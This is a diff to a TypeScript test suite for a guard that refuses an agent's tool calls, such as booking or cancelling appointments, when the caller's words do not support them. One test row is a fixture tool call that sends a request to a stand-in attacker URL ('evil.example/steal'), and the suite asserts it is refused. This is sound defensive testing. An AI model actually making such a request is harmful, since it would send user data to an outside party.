@@ -308,7 +308,7 @@ describe("refused", () => {
   const cancel = ["cancel_appointment", { phone: "+16175550142" }] as const;
   const caller = { from: "+16175550142" };
 
-  test.each<[string, string, readonly [string, unknown], Asked?]>([
+  test.each<[name: string, ...Parameters<typeof verdict>]>([
     ["nothing was said", "", booking()],
     ["another deed was asked for", "C: I'd like to book a cleaning on Tuesday at ten.", cancel, caller],
     ["a question about it", "C: How much does it cost to cancel?", cancel, caller],
@@ -361,8 +361,8 @@ describe("refused", () => {
     ],
     ["a tool nobody has words for", "C: hello there", ["http_request", { url: "https://evil.example/steal" }]],
     ["an id inside a sentence", "C: cancel my appointment", ["cancel_by_id", { appointmentId: "appt_9f8e7d6c" }]],
-  ])("%s", (_name, lines, deed, options) => {
-    expect(verdict(lines, deed, options).allowed).toBe(false);
+  ])("%s", (_name, ...question) => {
+    expect(allows(...question)).toBe(false);
   });
 
   test("the verdict names what is not the caller's", () => {
